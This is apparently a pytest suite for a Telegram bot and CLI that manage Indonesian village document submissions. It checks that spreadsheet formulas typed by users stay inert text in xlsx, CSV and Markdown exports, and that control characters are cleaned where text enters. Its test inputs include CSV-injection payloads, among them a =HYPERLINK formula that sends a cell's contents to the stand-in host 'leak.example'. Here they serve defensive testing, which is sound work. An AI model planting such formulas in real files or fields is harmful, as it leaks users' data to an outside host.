"""Text from people in and out (issue 15, items 1 and 4), end to end on both databases.

Formulas typed into the chat, the CLI or a place list leave every workbook as text and every CSV with a leading
apostrophe; control characters are cleaned where text enters, and a row already stored with one does not break a
workbook, a CSV or the archive's index.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import func, select, update

from bot.cleaning import FORMULA_STARTS
from bot.sandbox.telegram import SandboxUser
from models.tables import CalendarOverride, Contact, Desa, ForumReply, ForumThread, Person, Role, Submission
from tests.conftest import query
from tests.test_cli import DESA, load_jatiroto
from tests.world import JATIROTO, KALIBOTO_LOR, PDF, ROJOPOLO, SUKOSARI, World

# Each start a spreadsheet reads as a formula (OWASP), as someone would type it.
DANGEROUS = ('=HYPERLINK("http://leak.example/?d="&B5,"Lihat")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+2")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


async def _submit(world: World, sekdes: SandboxUser, nomor: str, marker: int) -> None:
    await sekdes.send_text("/kirim")
    await sekdes.expect("Dokumen mana")
    await sekdes.press(f"k:o:{await world.obligation_id(ROJOPOLO, 'RKPDES', 2025)}")
    await sekdes.expect("Kirim berkas RKPDes TA 2025")
    await sekdes.send_document(PDF + f"% version {marker}\n".encode(), "Perdes.pdf", "application/pdf")
    await sekdes.expect("Tanggal penetapan")
    await sekdes.send_text("27/09/2024")
    await sekdes.expect("Nomor dokumennya")
    await sekdes.send_text(nomor)
    await sekdes.expect("Periksa dulu")
    await sekdes.press("k:send")
    await sekdes.expect("Tanda terima")


async def _kendala(world: World, sekdes: SandboxUser, staf: SandboxUser, text: str, answer: str, note: str) -> int:
    await sekdes.send_text("/kendala")
    await sekdes.expect("tentang dokumen mana")
    await sekdes.press(f"kd:o:{await world.obligation_id(ROJOPOLO, 'APBDES', 2025)}")
    await sekdes.expect("Ceritakan kendalanya")
    await sekdes.send_text(text)
    receipt = await sekdes.expect("tercatat")
    number = int(re.search(r"Kendala #(\d+)", receipt.text).group(1))  # numbered per kecamatan, as people read it
    async with world.app.sessions() as session:
        thread = await session.scalar(select(func.max(ForumThread.id)))  # buttons carry the id
    await staf.send_text("/kendala")
    listing = await staf.expect("Kendala yang masih terbuka")
    await staf.press_callback(listing, f"f:j:{thread}")
    await staf.expect(f"Jawaban untuk kendala #{number}")
    await staf.send_text(answer)
    await staf.expect(f"Jawaban untuk kendala #{number} dikirim")
    await staf.press_callback(listing, f"f:c:{thread}")
    await staf.expect(f"Tutup kendala #{number}")
    await staf.send_text(note)
    await staf.expect(f"Kendala #{number} ditutup")
    return number


async def _rekap(world: World, camat: SandboxUser):
    await camat.send_text("/rekap 2024")
    await world.app.builds.idle()  # built in the report pool after the commit; it follows
    sent = await camat.expect("Rekap Kecamatan Jatiroto, tahun kinerja 2024")
    return load_workbook(io.BytesIO(world.sandbox.downloaded(sent.document["file_id"])))


async def _cli_outputs(klambi, world: World, tmp_path) -> dict[str, bytes]:
    """`klambi report` as xlsx, both CSV parts and md, and `klambi files export`, run as the operator would."""
    outputs = {}
    for name, args in {
        "lkjip.xlsx": ("--format", "xlsx"),
        "per-desa.csv": ("--format", "csv", "--part", "per-desa"),
        "rincian.csv": ("--format", "csv", "--part", "rincian"),
        "lkjip.md": ("--format", "md"),
    }.items():
        out = tmp_path / name
        argv = ("report", "--kecamatan", JATIROTO, "--year", "2024", *args, "-o", str(out))
        result = await asyncio.to_thread(klambi, *argv, now=world.clock.now())
        assert result.code == 0, result
        outputs[name] = out.read_bytes()
    out = tmp_path / "bukti.zip"
    argv = ("files", "export", "--kecamatan", JATIROTO, "--year", "2024", "-o", str(out))
    result = await asyncio.to_thread(klambi, *argv, now=world.clock.now())
    assert result.code == 0, result
    with zipfile.ZipFile(out) as archive:
        outputs["index.csv"] = archive.read("index.csv")
        outputs["index.md"] = archive.read("index.md")
    return outputs


def _workbook_texts(book) -> list[str]:
    """Every text cell of the workbook; no cell of any sheet is a formula or an error."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_fields(raw: bytes) -> list[str]:
    """Every field of the CSV; none of them starts as a formula would."""
    fields = [field for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_STARTS), field
    return fields


def _markdown_rows_hold(raw: bytes) -> None:
    """Every row of every table has as many cells as its header: no text ended a row or a table early."""
    columns = None
    for line in re.split(r"\r\n|\r|\n", raw.decode()):  # CommonMark's line endings
        if not line.startswith("|"):
            columns = None
            continue
        cells = len(re.findall(r"(?<!\\)\|", line))
        columns = columns or cells
        assert cells == columns, line


def _in_sheet(text: str) -> str:
    """What a workbook holds for a stored text: a carriage return is the line break it means."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


async def test_formulas_typed_anywhere_leave_every_workbook_and_csv_as_text(world, klambi, tmp_path):
    sekdes = await world.join(101, "Siti", Role.SEKDES, ROJOPOLO, "Sekdes Rojopolo")
    stafs = [await world.join(201 + i, name, Role.STAF, JATIROTO, f"Staf {i}") for i, name in enumerate(DANGEROUS)]
    camat = await world.join(301, "Pak Camat", Role.CAMAT, JATIROTO, "Camat")
    async with world.app.sessions() as session, session.begin():  # a place list with formulas in it
        await session.execute(update(Desa).where(Desa.kode == SUKOSARI).values(nama=DANGEROUS[0]))
        await session.execute(update(Desa).where(Desa.kode == KALIBOTO_LOR).values(nama="@Kaliboto Lor"))

    for round_, (staf, text) in enumerate(zip(stafs, DANGEROUS, strict=True)):
        await _submit(world, sekdes, text, round_)
        await world.sandbox.settle()  # the alert of this version has reached every staf
        if round_ < len(DANGEROUS) - 1:
            await staf.press("❌ Tolak")
            await staf.expect("Tulis alasan penolakan")
            await staf.send_text(text)
            await staf.expect("Ditolak oleh")
        else:
            await staf.press("✅ Terima")
            await staf.expect("Diterima oleh")
        await _kendala(world, sekdes, stafs[0], text, text, text)
    await world.sandbox.settle()

    nomors = [n for (n,) in await world.rows(select(Submission.nomor))]
    reasons = [r for (r,) in await world.rows(select(Submission.review_reason)) if r]
    staf_ids = select(Contact.person_id).where(Contact.user_id.in_([str(n) for n in range(201, 207)]))
    names = [n for (n,) in await world.rows(select(Person.name).where(Person.id.in_(staf_ids)))]
    problems = [t for row in await world.rows(select(ForumThread.text, ForumThread.closing_note)) for t in row]
    answers = [a for (a,) in await world.rows(select(ForumReply.text))]
    typed = nomors + reasons + names + problems + [DANGEROUS[0], "@Kaliboto Lor"]
    # the chat trims a text, so a leading tab or CR is gone; everything else reached the database as typed
    assert {"=", "+", "-", "@"} <= {text[0] for text in typed}
    assert len(nomors) == len(problems) // 2 == len(answers) == 6 and len(reasons) == 5

    outputs = await _cli_outputs(klambi, world, tmp_path)
    for book in (await _rekap(world, camat), load_workbook(io.BytesIO(outputs["lkjip.xlsx"]))):
        cells = _workbook_texts(book)
        for text in typed:
            assert _in_sheet(text) in cells, text
        for answer in answers:
            assert any(f": {answer}" in cell for cell in cells), answer
    rincian = _csv_fields(outputs["rincian.csv"])
    for text in nomors + reasons + names:
        assert ("'" + text if text.startswith(FORMULA_STARTS) else text) in rincian, text
    per_desa = _csv_fields(outputs["per-desa.csv"])
    assert "'" + DANGEROUS[0] in per_desa and "'@Kaliboto Lor" in per_desa
    index = _csv_fields(outputs["index.csv"])
    assert "'" + DANGEROUS[-1].strip() in index  # the accepted version's nomor
    _markdown_rows_hold(outputs["index.md"])
    _markdown_rows_hold(outputs["lkjip.md"])


async def test_control_characters_typed_in_the_chat_are_cleaned_and_the_recap_still_works(world):
    sekdes = await world.join(101, "Siti\x0bAminah", Role.SEKDES, ROJOPOLO, "Sekdes Rojopolo")
    staf = await world.join(201, "Kasi\x00Pem", Role.STAF, JATIROTO, "Kasi Pemerintahan")
    camat = await world.join(301, "Pak Camat", Role.CAMAT, JATIROTO, "Camat")

    await _submit(world, sekdes, "5\x0b2024", 1)  # Word's manual line break, pasted
    await staf.expect("Dokumen masuk")
    await staf.press("❌ Tolak")
    await staf.expect("Tulis alasan penolakan")
    await staf.send_text("Lampiran\nbelum\x0bditandatangani\x00")
    await staf.expect("Ditolak oleh Kasi Pem: Lampiran belum ditandatangani")
    await _submit(world, sekdes, "6\x00/2024", 2)  # PostgreSQL refuses a NUL: this was "sistem sedang sibuk"
    await staf.expect("Dokumen masuk")
    await staf.press("✅ Terima")
    await staf.expect("Diterima oleh Kasi Pem")
    await _kendala(world, sekdes, staf, "Baris satu\x0b\nBaris\tdua\x1b[31m", "Jawab\x07an", "Catatan\x00 akhir")

    assert sorted(n for (n,) in await world.rows(select(Submission.nomor))) == ["5 2024", "6 /2024"]
    assert [r for (r,) in await world.rows(select(Submission.review_reason)) if r] == [
        "Lampiran belum ditandatangani"
    ]  # a reason is one line
    names = sorted(n for (n,) in await world.rows(select(Person.name)))
    assert names == ["Kasi Pem", "Pak Camat", "Siti Aminah"]
    [(problem, note)] = await world.rows(select(ForumThread.text, ForumThread.closing_note))
    assert problem == "Baris satu \nBaris\tdua [31m" and note == "Catatan  akhir"  # a kendala keeps its lines
    assert [a for (a,) in await world.rows(select(ForumReply.text))] == ["Jawab an"]
    assert not any("sibuk" in m.text or "kesalahan" in m.text for m in sekdes.messages + staf.messages)

    cells = _workbook_texts(await _rekap(world, camat))
    assert {"5 2024", "6 /2024", "Lampiran belum ditandatangani", problem} <= set(cells)


async def test_control_characters_already_stored_do_not_break_the_outputs(world, klambi, tmp_path):
    sekdes = await world.join(101, "Siti", Role.SEKDES, ROJOPOLO, "Sekdes Rojopolo")
    staf = await world.join(201, "Kasi Pem", Role.STAF, JATIROTO, "Kasi Pemerintahan")
    camat = await world.join(301, "Pak Camat", Role.CAMAT, JATIROTO, "Camat")
    await _submit(world, sekdes, "5 Tahun 2024", 1)
    await staf.expect("Dokumen masuk")
    await staf.press("✅ Terima")
    await staf.expect("Diterima oleh")
    await _kendala(world, sekdes, staf, "Musdes tertunda", "Kami bantu", "Selesai")
    async with world.app.sessions() as session, session.begin():  # as rows written before the edges were cleaned
        await session.execute(update(Submission).values(nomor="5\x0b2024|a\rb"))
        staf_id = select(Contact.person_id).where(Contact.user_id == "201").scalar_subquery()
        await session.execute(update(Person).where(Person.id == staf_id).values(name="\r=1+2\x0c"))
        await session.execute(update(ForumThread).values(text="Musdes\x0btertunda\x1b", closing_note="\t=SUM(1)"))
        await session.execute(update(Desa).where(Desa.kode == SUKOSARI).values(nama="\tSukosari\x0b"))

    outputs = await _cli_outputs(klambi, world, tmp_path)
    for book in (await _rekap(world, camat), load_workbook(io.BytesIO(outputs["lkjip.xlsx"]))):
        cells = _workbook_texts(book)
        assert {"5 2024|a\nb", "\n=1+2 ", "Musdes tertunda ", "\t=SUM(1)", "\tSukosari "} <= set(cells)
    rincian = _csv_fields(outputs["rincian.csv"])
    assert "5\x0b2024|a\rb" in rincian and "'\r=1+2\x0c" in rincian  # a CSV holds any character; only formulas matter
    assert "'\tSukosari\x0b" in _csv_fields(outputs["per-desa.csv"])
    assert "5\x0b2024|a\rb" in _csv_fields(outputs["index.csv"])
    _markdown_rows_hold(outputs["index.md"])
    assert "| 5 2024\\|a b |" in outputs["index.md"].decode()
    _markdown_rows_hold(outputs["lkjip.md"])


def test_free_text_options_of_the_cli_are_cleaned_and_formulas_stay_text(klambi, database_url, tmp_path):
    load_jatiroto(klambi)
    places = tmp_path / "desa.csv"
    places.write_text("kode,nama\n35.08.17.2099,=Desa\x0bPercobaan\x1b\n", encoding="utf-8")
    assert klambi("villages", "import", str(places)).code == 0
    assert query(database_url, select(Desa.nama).where(Desa.kode == "35.08.17.2099")) == [("=Desa Percobaan",)]
    record = ("record", "--desa", DESA[1], "--doc", "RKPDES", "--ta", "2025", "--penetapan", "2024-09-21")
    rejected = klambi(*record, "--nomor", "5\x0b2024", "--status", "ditolak", "--alasan", "=1+2\x0b\x1b[31m")
    assert rejected.code == 0, rejected
    accepted = klambi(*record, "--nomor", "@6\x0c2024")
    assert accepted.code == 0, accepted
    added = klambi("holidays", "add", "2025-04-09", "--name", "Cuti\x0bbersama\x00")
    assert added.code == 0, added
    rows = query(database_url, select(Submission.nomor, Submission.review_reason).order_by(Submission.version))
    assert rows == [("5 2024", "=1+2  [31m"), ("@6 2024", None)]
    assert query(database_url, select(CalendarOverride.name)) == [("Cuti bersama",)]

    out = tmp_path / "lkjip.xlsx"
    report = ("report", "--kecamatan", JATIROTO, "--year", "2024")
    assert klambi(*report, "--format", "xlsx", "-o", str(out)).code == 0
    assert {"5 2024", "=1+2  [31m", "@6 2024", "=Desa Percobaan"} <= set(_workbook_texts(load_workbook(out)))
    out = tmp_path / "rincian.csv"
    assert klambi(*report, "--format", "csv", "--part", "rincian", "-o", str(out)).code == 0
    assert {"5 2024", "'=1+2  [31m", "'@6 2024"} <= set(_csv_fields(out.read_bytes()))
    out = tmp_path / "template.xlsx"
    assert klambi("record", "template", "--kecamatan", JATIROTO, "--year", "2024", "-o", str(out)).code == 0
    assert "=Desa Percobaan" in _workbook_texts(load_workbook(out))
